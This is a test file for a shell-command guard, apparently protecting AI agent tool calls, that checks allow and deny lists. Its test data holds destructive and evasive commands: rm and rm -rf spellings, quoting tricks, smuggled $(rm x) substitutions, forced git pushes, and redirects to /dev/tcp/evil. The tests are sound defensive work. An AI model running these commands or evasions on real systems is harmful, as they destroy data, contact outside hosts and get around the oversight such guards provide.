import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { shell } from 'guard-gateway/plugins/mcp-checks/shell'
import { loaded, mcpCheckConforms } from '../../conformance/mcp-check.ts'
import { actingCalls, agentCalls, agentPrograms, attacks, hiddenCalls, openCalls, ordinary } from './shell/rows.ts'

const allow = [
  ...['ls', 'cat', 'echo', 'grep', 'git status', 'git log', 'git diff', 'npm test', 'npm run lint'],
  ...['wc', 'head', 'cd', 'true'],
]
const options = { args: ['/command'], allow, variables: ['PWD', 'HOME'] }

mcpCheckConforms(shell, { options, passes: { command: 'npm test' }, fails: { command: 'npm test; npm publish' } })

type Options = Parameters<typeof shell.find>[1]

const reasons = async (changes: Partial<Options>, command: unknown): Promise<string[]> => {
  const find = await loaded(shell, { ...options, ...changes })
  return (await find({ command })).map(({ reason }) => reason)
}

describe('shell patterns', () => {
  for (const command of ordinary) {
    it(`passes ${JSON.stringify(command)}`, async () => assert.deepEqual(await reasons({}, command), []))
  }
  for (const command of attacks) {
    it(`refuses ${JSON.stringify(command.slice(0, 60))}`, async () => {
      assert.equal((await reasons({}, command)).length, 1)
    })
  }
})

describe('shell patterns that allow what agents use', () => {
  const agent = { allow: agentPrograms }
  for (const command of agentCalls) {
    it(`pass ${JSON.stringify(command)}`, async () => assert.deepEqual(await reasons(agent, command), []))
  }
  for (const command of actingCalls) {
    it(`refuse ${JSON.stringify(command)}`, async () => assert.equal((await reasons(agent, command)).length, 1))
  }
  it('let an entry name what its own words run', async () => {
    const allow = ['find . -exec rm', 'xargs rm', 'env X=1 rm']
    for (const command of ['find . -exec rm {} +', 'xargs rm -v', 'env X=1 rm y'])
      assert.deepEqual(await reasons({ allow }, command), [], command)
  })
})

describe('shell patterns about programs that are named like members of every object', () => {
  for (const program of ['constructor', '__proto__', 'toString']) {
    it(`pass ${program}`, async () => assert.deepEqual(await reasons({ allow: [program] }, `${program} x`), []))
  }
})

const denying = async (command: string): Promise<string[]> => {
  const find = await loaded(shell, { args: ['/command'], deny: ['rm', 'curl', 'git push'] })
  return (await find({ command })).map(({ reason }) => reason)
}

describe('shell patterns that only deny', () => {
  const passing = `ls -la;git status;git commit -m push;npm test;node build.js;python3 -m pytest;echo rm;cat rm.txt;mkdir x && cd x;tar xf a.tgz;make -j4;node --test --test-reporter=spec x.js;node --import ./x.js y.js;python3 -v x.py;pnpm -r build;npm -s test;kubectl -n a get pods;cmake --build build;ip addr;R --version`
  for (const command of [...passing.split(';'), ...openCalls]) {
    it(`pass ${command}`, async () => assert.deepEqual(await denying(command), []))
  }
  const refused = String.raw`
rm x
/bin/rm x
./rm x
RM x
Rm.exe x
r\m x
r''m x
"rm" x
ls && /usr/bin/curl x
git push
git push --force
/usr/bin/git push
git "push"
git pu*
git p?sh
sh -c 'rm x'
bash x.sh
/bin/dash -c x
env rm x
sudo rm x
xargs rm
find . -delete
eval rm
exec rm
command rm
builtin eval x
nohup rm x
timeout 5 rm x
busybox rm x
python -c 'import os'
python3.12 -c x
perl -e x
ruby -e x
node -e x
node --eval x
node
python "$X"
awk 'BEGIN{system("x")}'
ssh host rm x
xargs
source x
'unset' 'a[$(rm x)]'
'export' PATH=/tmp
'read' PATH
jobs -x rm x
test -v 'a[$(rm x)]'
[ -v 'a[$(rm x)]' ]
[ -f x ] && rm x
rm{,x} x
. x
r? x
$X x`
    .split('\n')
    .slice(1)
  for (const command of [...refused, ...hiddenCalls]) {
    it(`refuse ${command}`, async () => assert.equal((await denying(command)).length, 1))
  }
  it('judge an awk program by what it does outside of its strings, however it ends', async () => {
    for (const program of [
      '{print > "f"}',
      '{ printf $1 >> "f" }',
      '{print; print $2 > f}',
      '"un\\"closed {print > f}',
    ])
      assert.equal((await denying(`awk '${program}'`)).length, 1, program)
    for (const program of ['{print "a > b"}', '{print "a\\" > b"}', '$1 > 3 {print; x = y}', '$1 > 3 {print}; $2 > 4'])
      assert.deepEqual(await denying(`awk '${program}'`), [], program)
    assert.deepEqual(await denying(`awk '"${'\\"'.repeat(30_000)}'`), [])
    assert.deepEqual(await denying(`awk '${'print '.repeat(10_000)}'`), [])
  })
  it('judge wrappers within wrappers in time and memory that the length of the text bounds', async () => {
    assert.deepEqual(await denying(`${'nohup '.repeat(99)}ls`), [])
    assert.deepEqual(await denying(`${'nohup '.repeat(99)}rm x`), ['runs rm, which is denied'])
    assert.deepEqual(await denying('nohup xargs find'), [])
    for (const command of ['nohup xargs git', 'nohup find . -exec timeout 5 rm {} ;'])
      assert.equal((await denying(command)).length, 1, command)
    assert.match((await denying(`nohup ls ${'a '.repeat(1000)}`)).join(), /can run other commands/)
    const find = await loaded(shell, { args: ['/command'], allow: ['env'] })
    const command = ['env', ...Array(1000).fill('env')]
    assert.match((await find({ command }))[0]?.reason ?? '', /commands within commands/)
  })
  it('match options in any order, cluster and spelling', async () => {
    const find = await loaded(shell, { args: ['/command'], deny: ['rm -rf', 'git push --force', 'chmod 777'] })
    const findings = async (command: string) => (await find({ command })).length
    for (const command of `git push origin +main;rm -rf x;rm -fr x;rm -r -f x;rm x -rf;rm -vrf x;rm -Rf x;rm --recursive --force x;rm -r --forc x;git push --force;
      git push origin x --force;git push -f;git -C . push -uf;git --git-dir x push --force=1;chmod -R 777 x;chmod -v 777 x`
      .split(';')
      .map((one) => one.trim()))
      assert.equal(await findings(command), 1, command)
    for (const command of 'rm x;rm -r x;rm -f x;git push;git push --force-with-lease;git push --follow-tags;git commit -m 777;chmod 755 777'.split(
      ';',
    ))
      assert.equal(await findings(command), 0, command)
  })
})

describe('the options of a shell check', () => {
  it('redirect to named files, never to the network', async () => {
    const redirects = true
    for (const command of [
      'ls > f',
      'ls 2>/dev/null',
      'cat < f',
      '>f ls',
      'ls >f -l',
      'ls >> "a b"',
      'ls &> f',
      '> f; ls',
    ])
      assert.deepEqual(await reasons({ redirects }, command), [], command)
    for (const command of [
      'ls > $PWD',
      'ls > *',
      'cat < /dev/tcp/evil/80',
      'ls > /dev/udp/evil/53',
      '> f',
      'rm > f',
      'ls <<< x',
      'ls > $(rm x)',
    ])
      assert.equal((await reasons({ redirects }, command)).length, 1, command)
  })
  it('count with Bash 3.2 where the shell may be that of macOS', async () => {
    const command = `git log --grep "$(cat <<'E'\nit's (one), isn't) \`two\`\nE\n)"`
    const local = await loaded(shell, options, { cwd: '/' })
    assert.equal((await local({ command })).length, process.platform === 'darwin' ? 1 : 0)
    assert.match((await reasons({}, command)).join(), /Bash 3\.2/)
  })
  it('name no variable unless they do', async () => {
    assert.deepEqual(await reasons({ variables: [] }, 'ls $PWD'), ['uses the variable "PWD", which is not allowed'])
  })
  it('take an asterisk after an entry for what an entry means anyway', async () => {
    const find = await loaded(shell, { args: ['/command'], allow: ['git *', 'npm test *', '*'], deny: ['git push *'] })
    const count = async (command: string) => (await find({ command })).length
    for (const command of ['git status', 'git', 'npm test', 'npm test -- --watch'])
      assert.equal(await count(command), 0, command)
    for (const command of ['git push', 'git push --force', 'npm tests', 'npm publish', 'ls', '* x'])
      assert.equal(await count(command), 1, command)
  })
  it('deny what they also allow', async () => {
    const deny = ['git log']
    assert.deepEqual(await reasons({ deny }, 'git log -1'), ['runs git log, which is denied'])
    assert.deepEqual(await reasons({ deny }, 'git status'), [])
  })
  it('match a list of words as it is, without a shell', async () => {
    assert.deepEqual(await reasons({}, ['npm', 'test', '--', '$(rm x)', '; rm', '*', 'é']), [])
    for (const words of [['npm', 'publish'], ['npm test'], [], ['ls', 1], [['ls']], ['ls', 'a\0b'], ['']])
      assert.equal((await reasons({}, words)).length, 1, JSON.stringify(words))
    const find = await loaded(shell, { args: ['/argv'], deny: ['rm'] })
    assert.equal((await find({ argv: ['/bin/sh', '-c', 'rm x'] })).length, 1)
    assert.equal((await find({ argv: ['C:\\tools\\RM.EXE', 'x'] })).length, 1)
    assert.deepEqual(await find({ argv: ['ls', 'rm'] }), [])
  })
  it('judge every element that a pointer meets', async () => {
    const find = await loaded(shell, { args: ['/commands/*'], allow: ['ls'] })
    assert.deepEqual(await find({ commands: ['ls', 'rm x'] }), [
      { pointer: '/commands/1', reason: 'runs rm, which is not allowed', certain: true },
    ])
  })
  it('take missing and other arguments for violations, unless a missing one is optional', async () => {
    assert.deepEqual(await reasons({}, undefined), ['is missing'])
    assert.deepEqual(await reasons({ optional: true }, undefined), [])
    assert.deepEqual(await reasons({ optional: true }, null), ['must be a string or a list of strings'])
    assert.deepEqual(await reasons({}, { 0: 'ls' }), ['must be a string or a list of strings'])
  })
  it('warn of denying alone, and of allowing what runs anything', () => {
    const codes = (given: Partial<Options>) => shell.lint?.({ args: ['/c'], ...given }).map(({ code }) => code)
    assert.deepEqual(codes({ deny: ['rm'] }), ['SHELL_DENY_ONLY'])
    assert.deepEqual(codes({ allow: ['ls', 'git status', 'grep *', 'xargs rm'] }), [])
    assert.deepEqual(codes({ allow: ['npm test', 'make test *', 'sudo systemctl'] }), [
      'SHELL_ARGUMENTS_FREE',
      'SHELL_ARGUMENTS_FREE',
      'SHELL_ARGUMENTS_FREE',
    ])
    assert.deepEqual(codes({ allow: [{ command: 'make test', end: true }, { command: 'ls' }] }), [])
    assert.deepEqual(codes({ allow: ['npm', 'npm run build'] }), ['SHELL_RUNNER_ALLOWED', 'SHELL_ARGUMENTS_FREE'])
    assert.deepEqual(codes({ allow: ['sudo', 'bash -c', 'node', 'python3 build.py', 'xargs', 'find'] }), [
      'SHELL_RUNNER_ALLOWED',
      'SHELL_RUNNER_ALLOWED',
      'SHELL_RUNNER_ALLOWED',
      'SHELL_ARGUMENTS_FREE',
    ])
  })
})
